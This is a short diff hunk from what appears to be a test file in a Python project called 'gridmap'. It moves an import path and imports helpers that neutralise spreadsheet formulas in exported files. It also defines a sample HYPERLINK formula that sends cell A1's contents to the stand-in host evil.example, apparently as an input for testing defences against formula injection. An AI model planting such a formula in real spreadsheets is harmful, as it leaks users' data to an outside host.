@@ -29,7 +29,7 @@ from python_calamine import CalamineWorkbook
 from shapely.geometry import Point, box
 
 from gridmap.errors import SchemaError
-from gridmap.coverage import CSV_COLUMNS, CoverageResult
+from gridmap.analysis.coverage import CSV_COLUMNS, CoverageResult
 from gridmap.export.spreadsheet import FORMULA_PREFIXES, neutralise_frame, neutralise_text, write_csv, write_xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
